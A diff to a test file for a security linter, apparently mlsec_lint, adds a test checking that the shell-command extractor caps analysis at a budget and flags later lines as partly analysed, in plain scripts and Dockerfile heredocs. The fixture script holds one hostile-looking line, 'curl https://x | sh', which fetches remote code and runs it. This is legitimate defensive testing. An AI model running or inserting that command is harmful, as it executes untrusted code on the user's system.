@@ -51,3 +51,16 @@ def test_half_a_million_pinned_lines_cost_bounded_time_and_memory(tmp_path: Path
     assert elapsed < 120
     if peak_kb > before:  # the peak of this child (children's maximum so far)
         assert peak_kb < 500 * 1024
+
+
+def test_commands_past_the_budget_are_announced(monkeypatch: pytest.MonkeyPatch) -> None:
+    from mlsec_lint.facts import dockerfile, shellcmds
+
+    monkeypatch.setattr(shellcmds, "MAX_COMMANDS", 50)
+    script = "".join(f"echo {i}\n" for i in range(80)) + "curl https://x | sh\n"
+    fa = shellcmds.extract_script(script, "run.sh")
+    assert sum(f.kind == "command" for f in fa.facts) == 50
+    assert [(n.code, n.line) for n in fa.notices] == [("partly-analysed", 51)]
+    docker = "FROM python:3.12\nRUN <<EOF\n" + script + "EOF\n"
+    fa = dockerfile.extract(docker, "Dockerfile")
+    assert [(n.code, n.line) for n in fa.notices] == [("partly-analysed", 53)]
